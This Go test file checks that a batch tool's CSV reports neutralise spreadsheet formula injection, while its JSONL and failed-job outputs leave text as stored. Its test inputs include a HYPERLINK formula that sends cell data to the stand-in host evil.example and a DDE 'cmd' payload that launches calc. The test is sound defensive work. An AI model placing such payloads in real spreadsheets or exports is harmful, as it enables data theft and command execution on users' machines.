package ops_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/rcslaunch/rcslaunch/internal/store"
	"github.com/rcslaunch/rcslaunch/internal/testenv"
	"github.com/rcslaunch/rcslaunch/launch/launchtest"
	"github.com/rcslaunch/rcslaunch/ops"
)

// formulaStarts are the first characters that make a spreadsheet read a
// cell as a formula.
var formulaStarts = []string{"=", "+", "-", "@", "\t", "\r"}

// TestBatchReportCSVNeutralisesFormulas: a CSV report cell that starts with
// a formula character (an agent_no, Kaleyra's code and message, an
// agent_launch_id, a job ID) gets a leading single quote and is otherwise
// as stored; JSONL rows and --failed jobs keep the text as it is.
func TestBatchReportCSVNeutralisesFormulas(t *testing.T) {
	e := testenv.New(t)
	ctx := context.Background()
	at := time.Now().UTC().Truncate(time.Second).Add(-time.Minute)
	const id = "b_formulas"
	if err := e.Store.CreateBatch(ctx, id, "formulas", at); err != nil {
		t.Fatal(err)
	}
	stored := map[string][]string{} // job ID -> its cells as stored
	for i, c := range formulaStarts {
		jobID := fmt.Sprintf("%sj%d", c, i)
		agent := c + "15550001"
		msg := c + `HYPERLINK("http://evil.example/?"&A1,"click")`
		code := c + "cmd|' /C calc'!A0"
		j := store.NewJob{ID: jobID, SID: testenv.SID, AgentNo: agent, Payload: launchtest.Job("48000").Body(), Batch: id}
		o := store.Outcome{Kind: store.FinishDeadLettered, Attempt: store.Attempt{N: 1, Outcome: store.AttemptTerminal,
			Code: code, Message: msg, HTTPStatus: 400, StartedAt: at, FinishedAt: at}}
		launchID := ""
		if i%2 == 1 {
			launchID = c + "1+2"
			o.Kind, o.AgentLaunchID, o.Attempt.Outcome, o.Attempt.HTTPStatus = store.FinishSucceeded, launchID, store.AttemptSucceeded, 200
		}
		e.SettleOutcome(j, o, at)
		stored[jobID] = []string{jobID, agent, code, msg, launchID}
	}

	var out strings.Builder
	if err := e.Ops.WriteBatchReport(ctx, id, ops.BatchJobFilter{}, ops.ReportCSV, &out); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
	if err != nil || len(recs) != len(formulaStarts)+1 {
		t.Fatalf("CSV report (%v):\n%s", err, out.String())
	}
	for _, rec := range recs[1:] {
		for _, cell := range rec {
			for _, c := range formulaStarts {
				if strings.HasPrefix(cell, c) {
					t.Errorf("row %q: cell %q starts with %q", rec[0], cell, c)
				}
			}
		}
		jobID := strings.TrimPrefix(rec[0], "'")
		want := stored[jobID]
		if want == nil {
			t.Fatalf("row for unknown job %q", rec[0])
		}
		for i, col := range []int{0, 1, 3, 4, 5} {
			if w := want[i]; w != "" && rec[col] != "'"+w {
				t.Errorf("job %q column %d: %q, want %q", jobID, col, rec[col], "'"+w)
			}
		}
	}

	// JSONL is data for programs, not a spreadsheet: no quote there, and
	// none in the jobs --failed writes for enqueue --file.
	out.Reset()
	if err := e.Ops.WriteBatchReport(ctx, id, ops.BatchJobFilter{}, ops.ReportJSONL, &out); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), `"agent_no":"=15550001"`) || strings.Contains(out.String(), `"'`) {
		t.Errorf("JSONL report changed the text:\n%s", out.String())
	}
	out.Reset()
	if err := e.Ops.WriteBatchReport(ctx, id, ops.BatchJobFilter{}, ops.ReportFailedJobs, &out); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), `"id":"=j0"`) || strings.Contains(out.String(), `"'`) {
		t.Errorf("--failed changed the jobs:\n%s", out.String())
	}
}
